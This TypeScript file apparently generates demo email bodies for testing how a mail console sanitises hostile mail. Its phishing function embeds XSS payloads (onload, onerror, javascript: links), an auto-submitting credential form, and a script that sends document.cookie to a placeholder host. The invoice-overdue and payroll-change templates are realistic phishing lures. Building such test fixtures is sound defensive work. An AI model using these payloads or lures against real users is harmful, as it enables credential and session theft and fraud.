/** Bodies of generated mail, including hostile ones, which a console must render without harm. */
import { dictionary } from '#shared/dictionary.ts';
import words from '../../../resources/demo/bodies.json' with { type: 'json' };
import { CAMPAIGNS } from './campaigns.ts';
import type { GeneratedMail } from './generated-mail.ts';
import { type Random, random } from './prng.ts';

export interface GeneratedBody {
  html: string | null;
  text: string;
  inline: Record<string, string>;
}

const GREETING: Readonly<Record<string, string>> = dictionary(words.greetings);
const SENTENCES: Readonly<Record<string, readonly string[]>> = dictionary(words.sentences);

const escapeHtml = (text: string): string =>
  text.replace(/[&<>"']/g, (character) => `&#${character.charCodeAt(0)};`);

// A red square of 8 by 8 pixels.
const LOGO =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAEUlEQVR4nGO4Y6iHFTEMLQkAOH5PQQlq3OUAAAAASUVORK5CYII=';

export function bodyOf(mail: GeneratedMail): GeneratedBody {
  const rng = random(`${mail.entityId}/body`);
  switch (mail.template.kind) {
    case 'phishing':
      return phishing(mail, rng);
    case 'newsletter':
    case 'spam':
      return bulk(mail, rng);
    case 'huge':
      return huge(mail, rng);
    case 'empty':
      return { html: null, text: '', inline: {} };
    default:
      return letter(mail, rng);
  }
}

function sentences(mail: GeneratedMail, rng: Random, count: number): string[] {
  const list = SENTENCES[mail.language ?? 'en'] ?? SENTENCES['en'] ?? [''];
  return Array.from({ length: count }, () => rng.pick(list));
}

function letter(mail: GeneratedMail, rng: Random): GeneratedBody {
  const greeting = `${GREETING[mail.language ?? 'en'] ?? 'Hello'},`;
  const paragraphs = [
    sentences(mail, rng, rng.int(1, 3)).join(' '),
    sentences(mail, rng, rng.int(1, 4)).join(' '),
  ];
  const name = mail.fromName ?? mail.fromEmail ?? '';
  const text = `${greeting}\r\n\r\n${paragraphs.join('\r\n\r\n')}\r\n\r\n${name}\r\n${mail.links.map(({ url }) => url).join('\r\n')}\r\n`;
  if (rng.chance(0.15)) return { html: null, text, inline: {} };
  const table = rng.chance(0.3)
    ? `<table border="1" cellpadding="4"><tr><th>Item</th><th>Count</th><th>Price</th></tr>${Array.from({ length: rng.int(2, 6) }, (_, i) => `<tr><td>Pallet ${i + 1}</td><td align="right">${rng.int(1, 40)}</td><td align="right">${rng.int(20, 900)},00</td></tr>`).join('')}</table>`
    : '';
  const direction = mail.language === 'ar' ? ' dir="rtl"' : '';
  const html = `<!DOCTYPE html><html><head><meta charset="utf-8"><style>body{font:14px Calibri,sans-serif}p{margin:0 0 10px}.s{color:#666}</style></head><body${direction}><p>${escapeHtml(greeting)}</p>${paragraphs.map((paragraph) => `<p>${escapeHtml(paragraph)}</p>`).join('')}${table}<p>${escapeHtml(name)}</p>${links(mail)}<p class="s"><img src="cid:image001@made" width="64" height="64" alt="Logo"> ${escapeHtml(mail.fromDomain ?? '')}</p></body></html>`;
  return { html, text, inline: { 'image001@made': LOGO } };
}

const links = (mail: GeneratedMail): string =>
  mail.links
    .map(({ url, text }) => `<p><a href="${escapeHtml(url)}">${escapeHtml(text ?? url)}</a></p>`)
    .join('');

function bulk(mail: GeneratedMail, rng: Random): GeneratedBody {
  const host = escapeHtml(mail.fromDomain ?? 'bulk.example');
  const stories = Array.from(
    { length: rng.int(2, 5) },
    (_, i) =>
      `<tr><td style="background:url(https://img.${host}/bg${i}.png)"><img src="https://img.${host}/p/${rng.hex(6)}.jpg" width="120" alt=""></td><td><h3>${escapeHtml(mail.subject)}</h3><p>${escapeHtml(sentences(mail, rng, 2).join(' '))}</p></td></tr>`,
  );
  const html = `<html><head><link rel="stylesheet" href="https://img.${host}/mail.css"><style>@import url(https://img.${host}/f.css); td{padding:8px}</style></head><body bgcolor="#f4f4f4"><table width="600" align="center">${stories.join('')}</table>${links(mail)}<p style="font-size:10px">You get this mail because you once wrote to us. <a href="https://www.${host}/unsubscribe">Unsubscribe</a></p><img src="https://track.${host}/o?m=${mail.entityId}" width="1" height="1"></body></html>`;
  const text = `${mail.subject}\r\n\r\n${sentences(mail, rng, 4).join('\r\n')}\r\n\r\n${mail.links.map(({ url }) => url).join('\r\n')}\r\n`;
  return { html, text, inline: {} };
}

const HUGE_ROWS = 14_500;

/** A table of about 3 MB. */
function huge(mail: GeneratedMail, rng: Random): GeneratedBody {
  const rows: string[] = [];
  for (let i = 0; i < HUGE_ROWS; i += 1)
    rows.push(
      `<tr style="border-bottom:1px solid #dddddd;font-family:Calibri,sans-serif"><td style="padding:2px 8px">${100_000 + i}</td><td style="padding:2px 8px">Pallet ${rng.hex(8)}</td><td align="right" style="padding:2px 8px">${rng.int(1, 400)}</td></tr>`,
    );
  const html = `<html><body><h2>${escapeHtml(mail.subject)}</h2><table><tr><th>Number</th><th>What</th><th>Count</th></tr>${rows.join('\n')}</table></body></html>`;
  return { html, text: `${mail.subject}\r\n${HUGE_ROWS} rows, see the HTML part.\r\n`, inline: {} };
}

function phishing(mail: GeneratedMail, rng: Random): GeneratedBody {
  const campaign = CAMPAIGNS.find(({ id }) => id === mail.template.campaign);
  const target = mail.links[0]?.url ?? campaign?.link?.url ?? '';
  const host = escapeHtml(mail.fromDomain ?? 'mail.example');
  if (campaign?.id === 'invoice-overdue') return invoice(mail, target, host);
  if (campaign?.id === 'payroll-update') {
    const text = `Hi,\r\n\r\nare you at your desk? I need a quick favour and can't talk.\r\nPlease change the account for my salary before Friday.\r\n\r\nIngrid\r\nSent from my phone\r\n`;
    return { html: null, text, inline: {} };
  }
  // Everything a sanitiser has to stop: scripts, handlers, forms, frames, refreshes, styles that load or overlay.
  const html = `<html><head><meta http-equiv="refresh" content="30;url=${escapeHtml(target)}"><base href="https://${host}/"><style>@import "https://${host}/x.css";.cover{position:fixed;inset:0;z-index:9}</style></head><body onload="document.forms[0].submit()"><p>${escapeHtml(sentences(mail, rng, 1).join(' '))}</p><p><a href="${escapeHtml(target)}" onclick="steal()">${escapeHtml(mail.links[0]?.text ?? 'Open')}</a> <a href="javascript:alert(1)">or here</a></p><form action="${escapeHtml(target || `https://${host}/login`)}" method="post"><input name="user" value="${escapeHtml(mail.recipients[0]?.email ?? '')}"><input name="password" type="password"><button>Sign in</button></form><iframe src="https://${host}/f" width="1" height="1"></iframe><object data="https://${host}/o.swf"></object><svg onload="alert(2)"><a xlink:href="javascript:alert(3)"><text y="10">x</text></a></svg><img src="x" onerror="alert(4)"><script>fetch("https://${host}/c?"+document.cookie)</script><img src="https://${host}/t.gif?m=${mail.entityId}" width="1" height="1"></body></html>`;
  const text = `${mail.subject}\r\n\r\n${target}\r\n`;
  return { html, text, inline: {} };
}

function invoice(mail: GeneratedMail, target: string, host: string): GeneratedBody {
  const link = escapeHtml(target);
  const html = `<html><head><style>body{font-family:sans-serif;font-size:14px;color:#222}.f{color:#777;font-size:12px;border-top:1px solid #ddd;padding-top:8px}</style></head><body><p><img src="https://cdn.${host}/a/9c4e/logo.png" width="160" height="44" alt="Nordlicht"> <b style="font-size:18px">Nordlicht Logistik GmbH</b></p><p>Dear customer,<br>our records show invoice <b>INV-20931</b> (EUR 18 430,00) is <b>14 days overdue</b>. To avoid a collection fee please confirm your payment details within 24 hours:</p><p style="background:#f2f4f7;padding:10px"><a href="${link}">https://nordlicht-logistik.example/pay</a></p><p>You can also open the attached document <b>INV-20931.pdf</b> and sign in with your work account to view the statement.</p><form action="${link}" method="post"><input type="hidden" name="u" value="${escapeHtml(mail.recipients[0]?.email ?? '')}"></form><p>Kind regards<br>Accounts Receivable</p><p class="f">Nordlicht Logistik GmbH · Am Sandtorkai 1 · Hamburg<br>This message is confidential. If you received it by mistake, reply and delete it.</p><img src="https://cdn.${host}/b/1.png" width="20" height="20"><img src="https://cdn.${host}/b/2.png" width="20" height="20"><img src="https://track.${host}/open?m=${mail.entityId}" width="1" height="1"><script>location="${link}"</script></body></html>`;
  const text = `Dear customer,\r\n\r\nour records show invoice INV-20931 (EUR 18 430,00) is 14 days overdue.\r\nTo avoid a collection fee please confirm your payment details within 24 hours:\r\n\r\n${target}\r\n\r\nKind regards\r\nAccounts Receivable\r\n`;
  return { html, text, inline: {} };
}
